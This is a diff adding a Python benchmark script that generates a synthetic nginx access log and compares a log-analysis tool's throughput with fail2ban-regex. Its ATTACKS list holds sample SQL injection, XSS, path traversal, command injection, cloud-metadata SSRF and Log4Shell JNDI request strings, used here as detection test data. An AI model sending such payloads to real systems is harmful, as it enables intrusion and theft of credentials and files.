@@ -1,0 +1,110 @@
+#!/usr/bin/env python3
+"""Throughput of log analysis: decode + the whole built-in rule set over a
+1 million line nginx access log, on one core, beside fail2ban-regex with
+Debian's nginx filters on the same file in the same run.
+
+The log is generated: ordinary requests (pages, assets, search queries with
+quotes and words like "select", long cookies in the referer), about 1 % attack
+requests (SQL injection, XSS, traversal, command injection, scanners), and
+404 bursts.
+
+Usage: python3 bench/logs_throughput.py [--lines 1000000] [--jaga PATH]
+Needs `cargo build --release -p jaga`; installs Debian's fail2ban if missing
+(its service is not started).
+"""
+
+import argparse
+import os
+import random
+import resource
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+
+PAGES = ["/", "/index.html", "/about", "/products/42", "/static/app.min.js?v=3.1.4", "/static/site.css",
+         "/api/users?order=name&limit=10", "/search?q=how+to+select+a+good+car", "/search?q=%22select%22+from+the+menu",
+         "/blog/2026/11/what-is-a-union-type", "/shop?category=shoes&sort=price-desc", "/login?next=%2Fdashboard",
+         "/images/logo.png", "/docs/v1.2.3/readme.md", "/search?q=o%27reilly+books"]
+ATTACKS = ["/users/?id=SELECT+*+FROM+users", "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+           "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/download?file=../../../../etc/passwd",
+           "/ping?host=127.0.0.1;cat%20/etc/hosts", "/fetch?url=http://169.254.169.254/latest/meta-data/",
+           "/?q=${jndi:ldap://evil/a}", "/uploads/c99.php"]
+AGENTS = ["Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
+          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Safari/537.36",
+          "curl/7.88.1"]
+
+
+def generate(path, lines, seed=7):
+    rnd = random.Random(seed)
+    with open(path, "w") as f:
+        for i in range(lines):
+            ip = f"203.0.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
+            second = i // 2000
+            ts = f"23/Nov/2026:{(second // 3600) % 24:02d}:{(second // 60) % 60:02d}:{second % 60:02d} +0000"
+            if rnd.random() < 0.01:
+                url, agent, status = rnd.choice(ATTACKS), rnd.choice(AGENTS + ["sqlmap/1.7.2#stable"]), 200
+            elif rnd.random() < 0.02:
+                url, agent, status = f"/wp-admin/{rnd.randrange(10**6)}.php", "Mozilla/5.0 zgrab/0.x", 404
+            else:
+                url, agent, status = rnd.choice(PAGES), rnd.choice(AGENTS), 200
+            referer = "https://example.com/?session=" + "x" * rnd.randrange(0, 200)
+            f.write(f'{ip} - - [{ts}] "GET {url} HTTP/1.1" {status} {rnd.randrange(100, 90000)} "{referer}" "{agent}"\n')
+
+
+def timed(cmd):
+    before = resource.getrusage(resource.RUSAGE_CHILDREN)
+    start = time.time()
+    out = subprocess.run(cmd, capture_output=True, text=True)
+    wall = time.time() - start
+    after = resource.getrusage(resource.RUSAGE_CHILDREN)
+    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
+    return out, wall, cpu
+
+
+def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--lines", type=int, default=1_000_000)
+    parser.add_argument("--jaga", default="target/release/jaga")
+    args = parser.parse_args()
+    if not os.access(args.jaga, os.X_OK):
+        sys.exit(f"{args.jaga} not found: run `cargo build --release -p jaga` first")
+    if not shutil.which("fail2ban-regex"):
+        subprocess.run(["apt-get", "install", "-y", "-qq", "--no-install-recommends", "fail2ban"],
+                       env={**os.environ, "DEBIAN_FRONTEND": "noninteractive"}, check=True)
+    work = tempfile.mkdtemp(prefix="jaga-bench-logs-")
+    try:
+        log = os.path.join(work, "access.log")
+        generate(log, args.lines)
+        size_mb = os.path.getsize(log) / 2**20
+        print(f"{args.lines} lines, {size_mb:.0f} MiB of nginx combined log\n")
+        # taskset: one core for each tool, as the goal is stated per core.
+        pin = ["taskset", "-c", "0"] if shutil.which("taskset") else []
+        out, wall, cpu = timed(pin + [args.jaga, "logtest", "--summary", "--file", log])
+        if out.returncode != 0:
+            sys.exit(out.stderr)
+        print("jaga logtest --summary (decode + all built-in rules):")
+        print("  " + "\n  ".join(out.stdout.strip().splitlines()))
+        jaga_rate = args.lines / wall
+        print(f"  wall {wall:.2f} s, cpu {cpu:.2f} s -> {jaga_rate:,.0f} lines/s\n")
+        results = [("jaga (16 rules, all decoders)", wall, cpu, jaga_rate)]
+        for name in ["nginx-botsearch", "nginx-http-auth", "nginx-limit-req"]:
+            filt = f"/etc/fail2ban/filter.d/{name}.conf"
+            if not os.path.exists(filt):
+                continue
+            out, wall, cpu = timed(pin + ["fail2ban-regex", "--print-no-missed", "--print-no-ignored", log, filt])
+            matched = [l for l in out.stdout.splitlines() if l.startswith("Lines:")]
+            rate = args.lines / wall
+            results.append((f"fail2ban-regex {name}", wall, cpu, rate))
+            print(f"fail2ban-regex {name}: {matched[0] if matched else out.stdout[-200:]}")
+            print(f"  wall {wall:.2f} s, cpu {cpu:.2f} s -> {rate:,.0f} lines/s\n")
+        print(f"{'tool':40} {'wall s':>8} {'cpu s':>8} {'lines/s':>12} {'jaga is':>10}")
+        for name, wall, cpu, rate in results:
+            print(f"{name:40} {wall:8.2f} {cpu:8.2f} {rate:12,.0f} {jaga_rate / rate:9.1f}x")
+    finally:
+        shutil.rmtree(work, ignore_errors=True)
+
+
+if __name__ == "__main__":
+    main()
